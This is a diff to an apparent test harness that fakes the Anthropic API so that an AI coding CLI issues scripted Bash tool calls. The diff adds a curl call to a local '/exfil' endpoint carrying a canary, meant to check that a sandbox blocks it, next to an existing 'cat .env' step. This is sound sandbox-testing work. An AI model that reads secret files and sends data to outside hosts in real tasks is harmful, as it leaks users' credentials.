@@ -9,7 +9,9 @@ conversation:
     0 results -> tool_use Bash {"command": "ls"}
     1 result  -> tool_use Bash {"command": "cat README.md"}
     2 results -> tool_use Bash {"command": "cat .env"}
-    3+        -> text "done"
+    3 results -> tool_use Bash {"command": "curl ... http://127.0.0.1:PORT/exfil..."}
+                 (PORT: this server's; "{port}" in a --script command is it too)
+    4+        -> text "done"
 
 Every other request (title/topic side queries, count_tokens, probes of any
 path with any method) gets a minimal valid answer at once, so the CLI never
@@ -18,7 +20,7 @@ body) to --log.
 
     python3 fake_anthropic.py [--port N] [--port-file F] [--log F] [--script F]
 
---script F replaces the three commands with the JSON list of strings in F
+--script F replaces the four commands with the JSON list of strings in F
 (for exploring how the CLI wraps other commands).
 """
 
@@ -39,7 +41,12 @@ SCRIPT = [
     ("ls", "List the files in the project"),
     ("cat README.md", "Read the README"),
     ("cat .env", "Read the environment file"),
+    # A tool call that tries to reach this very server ({port}: its port)
+    # from a tool's process: refused by warden's connect rule, however the
+    # exec of curl was decided (the exfiltration case of the network issue).
+    ("curl -s -m 5 http://127.0.0.1:{port}/exfil?d=canary", "Fetch a URL"),
 ]
+PORT = [0]
 FINAL_TEXT = "done"
 
 _ids = itertools.count(1)
@@ -88,6 +95,7 @@ def plan(req):
         step = count_tool_results(req.get("messages"))
         if step < len(SCRIPT):
             cmd, desc = SCRIPT[step]
+            cmd = cmd.replace("{port}", str(PORT[0]))
             block = {
                 "type": "tool_use",
                 "id": next_id("toolu"),
@@ -307,6 +315,7 @@ def main():
     srv.daemon_threads = True
     srv.log_path = os.path.abspath(a.log)
     port = srv.server_address[1]
+    PORT[0] = port
     if a.port_file:
         tmp = a.port_file + ".tmp"
         with open(tmp, "w") as f:
